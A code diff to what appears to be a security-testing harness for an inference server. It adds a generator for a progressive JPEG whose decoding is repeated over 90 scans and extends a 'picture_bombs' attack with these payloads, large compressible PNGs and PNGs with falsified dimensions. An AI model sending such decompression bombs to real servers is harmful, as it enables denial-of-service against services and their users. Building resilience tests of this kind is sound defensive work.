@@ -359,6 +359,14 @@ class Region:
         return scene.status("POST", f"/v2/systemsharedmemory/region/{name}/register", body, JSON)
 
 
+def jpeg(side, scans):
+    """A progressive JPEG of one component, whose scans have a byte each."""
+    tables = b"".join(b"\xff\xc4\0\x14" + bytes([number, 1]) + bytes(16) for number in (0, 16))
+    frame = b"\xff\xc2\0\x0b\x08" + struct.pack(">HH", side, side) + b"\x01\x01\x11\0"
+    first, again = (b"\xff\xda\0\x08\x01\x01\0" + band + b"\0" for band in (b"\0\0\0", b"\x01\x3f\0"))
+    return b"\xff\xd8\xff\xdb\0\x43\0" + b"\x01" * 64 + frame + tables + first + again * (scans - 1) + b"\xff\xd9"
+
+
 def png(width, height):
     """A grey picture of zeros, which compresses to next to nothing."""
 
@@ -372,10 +380,12 @@ def png(width, height):
 
 @attack()
 def picture_bombs(scene):
-    """Sixty pictures of 60 million pixels, 60 KB each, then ones whose sizes are lies."""
+    """Sixty pictures of 60 million pixels, 60 KB each, ones that are gone over 90 times, then ones whose sizes are lies."""
     picture = png(8000, 7500)
     image = ("Content-Type", "image/png")
-    requests = [http1.request("POST", f"{INFER}?timeout={PATIENCE_US}", picture, [image])] * 60
+    scans = http1.request("POST", f"{INFER}?timeout={PATIENCE_US}", jpeg(8000, 90), [("Content-Type", "image/jpeg")])
+    requests = [scans] * 20
+    requests += [http1.request("POST", f"{INFER}?timeout={PATIENCE_US}", picture, [image])] * 60
     for size in ((1 << 31) - 1, 100_000, 16_384):
         lie = bytearray(png(1, 1))
         lie[16:24] = struct.pack(">II", size, size)
